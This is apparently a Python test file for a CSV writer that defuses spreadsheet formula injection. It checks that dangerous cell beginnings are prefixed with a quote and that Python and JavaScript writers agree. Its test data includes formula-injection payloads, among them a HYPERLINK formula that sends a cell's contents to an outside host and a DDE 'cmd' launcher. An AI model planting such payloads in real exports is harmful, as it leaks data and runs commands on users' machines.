"""Expected values: OWASP's list of beginnings, and what Python's csv module reads back."""

import csv
import io
import json

import hypothesis
import pytest
from hypothesis import strategies

from bert_tf.report.page import SHARED_SCRIPTS
from bert_tf.spreadsheets import defused, write_csv, write_csv_columns

COMPUTED = [
    '=HYPERLINK("http://example.org/?"&A1)', "=1+1", "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1", "\n=1",
    "＝1+1", "-", "-1_000", "+-1", "-inf", "-١٢", "-1 ",
]  # fmt: skip
HARMLESS = ["", "text", "a=b", " =1", "'=1", "-1", "+1.5", "-.5", "-1e-05", "+3.", "1-2", "é", '"=1"', "a\nb", "0x1"]


@pytest.mark.parametrize("text", COMPUTED)
def test_what_would_be_computed_is_a_text(text):
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_would_not_stays(text):
    assert defused(text) == text


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_cells_come_back(delimiter):
    rows = [["text", "number", "nothing"], *([text, -0.5, None] for text in (*COMPUTED, *HARMLESS))]
    file = io.StringIO(newline="")
    write_csv(file, rows, delimiter=delimiter)
    found = list(csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter))
    assert found[1:] == [[f"'{text}" if text in COMPUTED else text, "-0.5", ""] for text, *_ in rows[1:]]


def test_the_pages_write_the_same(page):
    rows = [[text, -0.5, None] for text in (*COMPUTED, *HARMLESS)]
    page.set_content("<p>")
    (script,) = (path for path in SHARED_SCRIPTS if path.name == "csv.js")
    page.evaluate(script.read_text().replace("export const", "var"))
    file = io.StringIO(newline="")
    write_csv(file, rows)
    assert page.evaluate(f"csv({json.dumps(rows)})") == file.getvalue()


CELLS = strategies.one_of(
    strategies.text('=+-@\t\r\n＝a1", é', max_size=4), strategies.floats(), strategies.integers(), strategies.none()
)


@hypothesis.given(
    rows=strategies.lists(strategies.tuples(CELLS, CELLS), max_size=9),
    delimiter=strategies.sampled_from(",\t;"),
    raw=strategies.booleans(),
)
def test_columns_are_written_as_their_rows_are(rows, delimiter, raw):
    by_rows, by_columns = io.StringIO(newline=""), io.StringIO(newline="")
    changed = write_csv(by_rows, rows, delimiter=delimiter, raw=raw)
    columns = [[row[place] for row in rows] for place in range(2)]
    assert write_csv_columns(by_columns, columns, delimiter=delimiter, raw=raw) == changed
    assert by_columns.getvalue() == by_rows.getvalue()
